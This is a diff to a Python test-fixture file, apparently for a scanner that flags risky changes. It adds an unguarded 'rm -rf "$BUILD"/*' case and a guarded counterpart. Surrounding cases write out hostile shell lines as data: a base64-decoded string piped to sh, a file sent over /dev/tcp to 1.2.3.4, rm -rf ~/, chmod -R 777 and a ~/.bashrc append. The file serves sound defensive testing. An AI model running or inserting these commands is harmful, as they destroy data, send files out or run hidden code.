@@ -169,6 +169,7 @@ CHANGED: dict[str, tuple[Files, Files]] = {
     "an encoded command": ({"a.sh": SHELL}, {"a.sh": SHELL + "echo aGk= | base64 -d | sh\n"}),
     "a device": ({"a.sh": SHELL}, {"a.sh": SHELL + "cat x > /dev/tcp/1.2.3.4/80\n"}),
     "a mode": ({"Makefile": "a:\n\tb\n"}, {"Makefile": "a:\n\tchmod -R 777 .\n"}),
+    "rm below a name that may be empty": ({"a.sh": SHELL}, {"a.sh": SHELL + 'rm -rf "$BUILD"/*\n'}),
     "rm of the home": ({"a.sh": SHELL}, {"a.sh": SHELL + "rm -rf ~/\n"}),
     "a start-up file": ({"a.sh": SHELL}, {"a.sh": SHELL + "echo x >> ~/.bashrc\n"}),
     "a push": ({"a.sh": SHELL}, {"a.sh": SHELL + "git push origin main\n"}),
@@ -260,6 +261,7 @@ KNOWN: dict[str, tuple[Files, Files]] = {
     "a pinned action": ({".github/workflows/a.yml": WORKFLOW}, {".github/workflows/a.yml": WORKFLOW + f"      - uses: eve/go@{'a' * 40}\n"}),
     "an action of the house": ({".github/workflows/a.yml": WORKFLOW}, {".github/workflows/a.yml": WORKFLOW + "      - uses: actions/cache@v4\n"}),
     "a plain command": ({"a.sh": SHELL}, {"a.sh": SHELL + "make lint\n"}),
+    "a deletion below a name that must be there": ({"a.sh": SHELL}, {"a.sh": SHELL + 'rm -rf "${BUILD:?}"/*\n'}),
     "a deletion inside": ({"a.sh": SHELL}, {"a.sh": SHELL + "rm -rf build/\n"}),
     "a guard by way of another": ({"p/a.py": GUARDED}, {"p/a.py": edit(
         GUARDED, "escape(a) + escape(b)", "cell(a) + cell(b)")}),
